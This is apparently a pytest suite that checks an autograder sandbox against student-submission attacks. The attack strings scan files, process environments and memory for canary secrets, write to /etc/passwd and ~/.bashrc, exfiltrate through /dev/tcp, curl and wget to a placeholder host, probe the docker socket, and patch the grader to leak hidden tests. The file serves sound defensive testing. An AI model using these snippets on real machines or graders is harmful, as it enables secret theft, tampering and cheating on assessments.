"""Attacks on secrets: files of course and machine, other students, the network, and hidden tests as they pass by."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from asyncaula.grading.separate.execute import SeparateExecute

pytestmark = [pytest.mark.slow, pytest.mark.timeout(1500)]

SEARCH = r"""
import os, re, sys
found = set()
pattern = re.compile(rb"canario-[0-9a-f]{16}|ajeno-[0-9a-f]{16}|sorteo" + rb"_de_\w+")
def look(place):
    for here, folders, files in os.walk(place, followlinks=False):
        folders[:] = [f for f in folders if os.path.join(here, f) not in (sys.prefix, sys.base_prefix)]
        for name in files:
            path = os.path.join(here, name)
            try:
                if os.path.getsize(path) < 5_000_000:
                    found.update(pattern.findall(open(path, "rb").read()))
            except OSError:
                pass
"""
SEES_REQUEST = """
import json, sys
import asyncaula.grading.separate.answering as answering
from asyncaula.checks import observation
asked = []
antes = observation.observe_here
def mira(request, namespace):
    asked.append(json.dumps(dict(request)))
    return antes(request, namespace)
observation.observe_here = answering.observe_here = mira
"""
"""Begins an attack that keeps what the learner's kernel is asked, hidden tests' scenarios among it."""
RIGHT_DOBLE = "def doble(n):\n    return 2 * n"
WRITES = """
import os
def tries(call):
    try:
        call()
        print("ESCRITO")
    except OSError as error:
        print(error.errno)
for path in ("@ROOT@/gradebook.db", "@ROOT@/nbgrader_config.py", "@ROOT@/autograded/aaa-honesta/uno/cuaderno.ipynb",
             "@ROOT@/submitted/zzz-honesta/uno/cuaderno.ipynb", "@ROOT@/source/uno/cuaderno.ipynb", "@HOME@/.bashrc",
             "/etc/passwd", "/usr/lib/x.py", os.__file__, os.path.dirname(os.__file__) + "/nuevo.py"):
    tries(lambda: open(path, "a").write("x"))
    tries(lambda: os.unlink(path))
    tries(lambda: os.mkdir(os.path.dirname(path) + "/nueva"))
"""


def _links(folder: Path) -> None:
    root = folder.parents[2]
    (folder / "gradebook.db").symlink_to(root / "gradebook.db")
    (folder / "curso").symlink_to(root)
    (folder / "raiz").symlink_to("/")
    (folder / "ajena.ipynb").symlink_to(root / "submitted/aaa-honesta/uno/cuaderno.ipynb")
    (folder / "hogar").symlink_to(os.environ["HOME"])


def _notebook_is_a_link(folder: Path) -> None:
    (folder / "cuaderno.ipynb").unlink()
    (folder / "cuaderno.ipynb").symlink_to(folder.parents[1] / "aaa-honesta/uno/cuaderno.ipynb")


def _folder_is_a_link(folder: Path) -> None:
    (folder / "cuaderno.ipynb").rename(folder.parent / "aparte")
    (folder / "sub").symlink_to(folder.parents[1] / "aaa-honesta/uno")
    (folder.parent / "aparte").rename(folder / "cuaderno.ipynb")


ATTACKS: dict[str, dict[str, Any]] = {
    # -- files, environment, processes ---------------------------------------------------------------------
    "reads-the-course": {
        "seat": "looks-around",
        "last": SEARCH
        + """
for place in ("@ROOT@", os.path.dirname("@ROOT@"), "@HOME@", "/tmp", "/dev/shm", "/run", "/var", "/home", "/root",
              "/etc", "/srv", "/mnt", "/opt", os.getcwd()):
    look(place)
print("VISTO", found)
""",
    },
    "reads-where-the-course-is": {
        "seat": "looks-around",
        "last": SEARCH
        + """
look("@ROOT@")
look("@HOME@")
print("VISTO", found)
""",
    },
    "reads-the-notebook": {
        "seat": "looks-around",
        "last": SEARCH
        + "print('VISTO', [n for n in os.listdir() if n.endswith('.ipynb')])\nlook('.')\nprint(found)",
    },
    "reads-the-environment": {
        "seat": "looks-around",
        "last": SEARCH
        + """
print(dict(os.environ))
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for name in ("environ", "cmdline", "maps", "mountinfo"):
            try:
                text = open(f"/proc/{pid}/{name}").read()
                print(pid, name, text if "canario" in text or "ASYNCAULA" in text else "")
            except OSError:
                pass
look("/proc/self/root/@ROOT@")
look("/proc/1/root/@ROOT@")
print(found)
""",
    },
    "reads-memory": {
        "seat": "looks-around",
        "last": """
import re
for line in open("/proc/self/maps"):
    begin, end = (int(x, 16) for x in line.split()[0].split("-"))
    if "r" in line.split()[1] and end - begin < 2**28:
        try:
            with open("/proc/self/mem", "rb", 0) as memory:
                memory.seek(begin)
                hits = set(re.findall(rb"canario-[0-9a-f]{16}|ajeno-[0-9a-f]{16}", memory.read(end - begin)))
                if hits:
                    print(hits)
        except (OSError, ValueError, OverflowError):
            pass
""",
    },
    "writes-beside-the-course": {
        "seat": "looks-around",
        "last": """
try:
    with open("@ROOT@/secreto.txt", "a") as file:
        file.write("x")
    print("ESCRITO")
except OSError as error:
    print(error.errno)
""",
    },
    "writes-the-course": {"seat": "looks-around", "last": WRITES},
    "links": {
        "put": _links,
        "last": SEARCH
        + "look('.')\nprint([os.path.lexists(n) for n in ('curso', 'gradebook.db', 'raiz')], found)",
    },
    "notebook-is-a-link": {"put": _notebook_is_a_link, "points": None},
    "folder-is-a-link": {"put": _folder_is_a_link, "last": SEARCH + "look('.')\nprint(os.listdir(), found)"},
    "links-made-while-it-runs": {
        "first": """
import os
for name in ("cuaderno.ipynb", "timestamp.txt", "gradebook.db"):
    os.symlink("@ROOT@/gradebook.db", name)
os.symlink("@ROOT@", "autograded")
"""
    },
    # -- the network ---------------------------------------------------------------------------------------
    "network": {
        "seat": "looks-around",
        "last": """
import socket
for host in ("127.0.0.1", "@HOST@", "localhost", "::1"):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        for family in (socket.AF_INET, socket.AF_INET6):
            try:
                with socket.socket(family, kind) as s:
                    s.settimeout(0.5)
                    s.connect((host, @PORT@))
                    s.send(b"secreto")
                    print("MANDADO" if kind == socket.SOCK_STREAM else "")
            except OSError as error:
                print(error)
""",
    },
    "network-by-name": {
        "seat": "looks-around",
        "last": """
import socket, urllib.request
socket.setdefaulttimeout(1)
for call in (lambda: socket.getaddrinfo("example.org", 80), lambda: urllib.request.urlopen("http://@HOST@:@PORT@/"),
             lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW), lambda: socket.socket(40, socket.SOCK_STREAM),
             lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)):
    try:
        print("MANDADO", call())
    except OSError as error:
        print(error)
""",
    },
    "network-from-a-child": {
        "seat": "looks-around",
        "last": """
import subprocess
print(subprocess.run(["/bin/sh", "-c", "(echo secreto > /dev/tcp/@HOST@/@PORT@) 2>&1; "
    "curl -m 2 -s http://@HOST@:@PORT@/; wget -T 2 -q -O - http://@HOST@:@PORT@/; unshare -rn true; ip link"],
    capture_output=True, text=True))
""",
    },
    "sockets-of-the-machine": {
        "seat": "looks-around",
        "last": """
import glob, socket
for name in ("/var/run/docker.sock", "/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private",
             *glob.glob("/tmp/.X11-unix/*"), *glob.glob("/run/user/*/*")):
    try:
        s = socket.socket(socket.AF_UNIX)
        s.connect(name)
        print("CONECTADO", name)
    except OSError:
        pass
""",
    },
    # -- hidden tests, as they pass by ---------------------------------------------------------------------
    "prints-its-inputs": {
        "answers": {"doble": f"{RIGHT_DOBLE.replace('return', 'print(n); return')}"},
        "points": 5,
    },
    "raises-its-inputs": {
        "answers": {
            "doble": "def doble(n):\n    if n > 3:\n        raise ValueError(f'visto {n} {2 * n}')\n    return 6"
        },
        "points": 1,
    },
    "raises-a-class-named-so": {
        "seat": "tells-by-errors",
        "answers": {"doble": "def doble(n):\n    raise type(f'Visto{n}', (Exception,), {})()"},
    },
    "returns-its-inputs": {
        "answers": {"doble": "def doble(n):\n    return f'visto {n}' if n > 3 else 6"},
        "points": 1,
    },
    "names-tasks-by-its-inputs": {
        "seat": "tells-by-errors",
        "answers": {
            "juntos": """
import asyncio, sys
async def juntos(trabajos):
    frame, seen = sys._getframe(), []
    while frame is not None:
        seen.append(frame.f_code.co_name)
        frame = frame.f_back
    tareas = [asyncio.create_task(t(), name="-".join(s for s in seen if "_de_" in s)) for t in trabajos]
    return [await t for t in tareas] + [0]
"""
        },
    },
    "tells-later": {
        # What a hidden test asked is kept and printed by the next cell of the learner's own.
        "answers": {"doble": RIGHT_DOBLE, "juntos": "print(asked, '\\n'.join(asked))\nasked"},
        "first": SEES_REQUEST,
        "last": "print(asked)\nraise type('_'.join(asked), (Exception,), {})(asked)",
        "points": 5,
    },
    "tells-later-in-an-earlier-cell": {
        "answers": {"doble": RIGHT_DOBLE, "juntos": "cuadro.update({'text/plain': str(asked)}, raw=True)"},
        "first": f"{SEES_REQUEST}\nfrom IPython.display import display\n"
        "cuadro = display({'text/plain': 'x'}, raw=True, display_id='a')",
        "points": 5,
    },
    "tells-later-in-a-diagnosis": {
        # A visible test's diagnosis shows what came back.
        "answers": {
            "doble": RIGHT_DOBLE,
            "juntos": "async def juntos(trabajos):\n    return [asked[1][:100]]",
        },
        "first": SEES_REQUEST,
        "points": 5,
    },
    "tells-later-in-an-exception": {
        "answers": {
            "doble": RIGHT_DOBLE,
            "juntos": """
import asyncio
async def juntos(trabajos):
    asyncio.create_task(trabajos[0](), name=asked[1][:100])
    raise type(asked[1][:60], (Exception,), {})(asked[1])
""",
        },
        "first": SEES_REQUEST,
        "points": 5,
    },
    "tells-later-from-a-thread": {
        "answers": {"doble": RIGHT_DOBLE},
        "first": f"""{SEES_REQUEST}
import threading, time
kernel = get_ipython().kernel
parent = kernel.get_parent()
def cuenta():
    while True:
        for to in (parent, kernel.get_parent()):
            kernel.session.send(kernel.iopub_socket, "stream", {{"name": "stdout", "text": str(asked)}}, parent=to)
        time.sleep(0.05)
threading.Thread(target=cuenta, daemon=True).start()
""",
        "points": 5,
    },
    "tells-where-it-stands": {
        # The line, the function and the task that a diagnosis shows, chosen by the kernel that was asked.
        "first": """
import json
import asyncaula.grading.separate.answering as answering
def cuenta(request):
    said = json.dumps(json.loads(request))
    return json.dumps({"outcome": "deadlock", "value": said, "error": {"type": said, "bases": [], "message": said,
        "members": [], "cause": None, "line": said}, "elapsed": 2.0, "real": 0.0,
        "waiting": [[1, said, said, said], [2, "cuenta", said, said], [3, "<module>", "    " + said, said]],
        "leaked": [], "never_awaited": [said], "unretrieved": [said], "pending": [said], "cancelling": [],
        "printed": said, "blocking": [[said, [1, "cuenta", said, said]]],
        "events": [[0.0, "start", said[i:i + 20], said[i:i + 20], None] for i in range(0, 400, 20)],
        "extra": ["dict", [["missing", said]]]})
answering.answer = cuenta
""",
    },
    "tells-lines-of-the-test": {
        # The same, with lines, names and numbers that stand in the notebook: in its hidden tests.
        "first": """
import json
import asyncaula.grading.separate.answering as answering
def cuenta(request):
    asked = json.loads(request)
    lines, n = asked["source"].splitlines(), asked["data"].get("n", 10**9)
    places = [[n, asked["name"], line, "T1"] for line in lines] + [[2 * n, "clave" + "_oculta", "", "T1"]]
    return json.dumps({"outcome": "deadlock", "value": None, "error": None, "elapsed": 2.0, "real": 0.0,
        "waiting": places, "leaked": places, "never_awaited": [], "unretrieved": [], "pending": [], "cancelling": [],
        "printed": "", "blocking": [], "events": [], "extra": ["dict", []]})
answering.answer = cuenta
""",
    },
    "tells-what-is-missing": {
        "first": """
import json
import asyncaula.grading.separate.answering as answering
def cuenta(request):
    said = json.dumps(json.loads(request))
    return json.dumps({"outcome": "blocked" if "juntos" in said else "missing", "value": None, "error": None,
        "elapsed": 0.0, "real": 0.0, "waiting": [], "leaked": [], "never_awaited": [], "unretrieved": [],
        "pending": [], "cancelling": [], "printed": "", "blocking": [[said, None]], "events": [],
        "extra": ["dict", [["missing", said]]]})
answering.answer = cuenta
""",
    },
    "writes-it-to-a-file": {
        "answers": {"doble": RIGHT_DOBLE, "juntos": "open('visto.txt', 'w').write(str(asked)); None"},
        "first": SEES_REQUEST,
        "points": 5,
    },
}


@pytest.fixture(scope="module")
def graded(grade_class: Callable[..., Any]) -> Any:
    return grade_class(__name__, ATTACKS)


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_wins(graded: Any, attack: str) -> None:
    graded.check(attack)


@pytest.mark.parametrize(
    "attack", ["reads-the-course", "reads-where-the-course-is", "links", "folder-is-a-link"]
)
def test_a_search_finds_nothing(graded: Any, attack: str) -> None:
    assert "set()" in graded.output(attack)


@pytest.mark.parametrize(
    "attack",
    [
        "writes-the-course",
        "writes-beside-the-course",
        "network",
        "network-by-name",
        "sockets-of-the-machine",
    ],
)
def test_what_was_tried_failed(graded: Any, attack: str) -> None:
    said = graded.output(attack)
    assert not any(word in said for word in ("ESCRITO", "MANDADO", "CONECTADO"))


def test_the_attack_that_tells_later_does_know_something(graded: Any) -> None:
    assert "sorteo_de_doble" in graded.output("tells-later")
    assert "sorteo_de_doble" not in graded.output("tells-later-in-an-earlier-cell")
    for attack in ("tells-later-in-a-diagnosis", "tells-later-in-an-exception"):
        (cell,) = (cell for cell in graded.record(attack).cells if cell.name == "test_juntos")
        assert "sorteo_de_doble" in cell.message


def test_the_notebook_is_not_there_to_be_read(graded: Any) -> None:
    assert "VISTO []" in graded.output("reads-the-notebook")


def test_what_the_kernel_wrote_does_not_come_back(graded: Any) -> None:
    assert {p.name for p in (graded.root / "autograded/writes-it-to-a-file/uno").iterdir()} == {
        "cuaderno.ipynb"
    }
    assert {p.name for p in (graded.root / "feedback/links-made-while-it-runs/uno").iterdir()} == {
        "cuaderno.html"
    }


@pytest.mark.parametrize(
    ("attack", "sign"),
    [
        ("reads-where-the-course-is", "canario-"),
        ("reads-the-environment", "canario-"),
        ("writes-beside-the-course", "ESCRITO"),
        ("network", "MANDADO"),
    ],
)
def test_without_the_walls_it_wins(undefended: Callable[..., Any], attack: str, sign: str) -> None:
    tried = undefended(ATTACKS[attack], by=SeparateExecute, sandbox=False)
    assert sign in tried.said()
    assert bool(tried.packets) == (attack == "network")
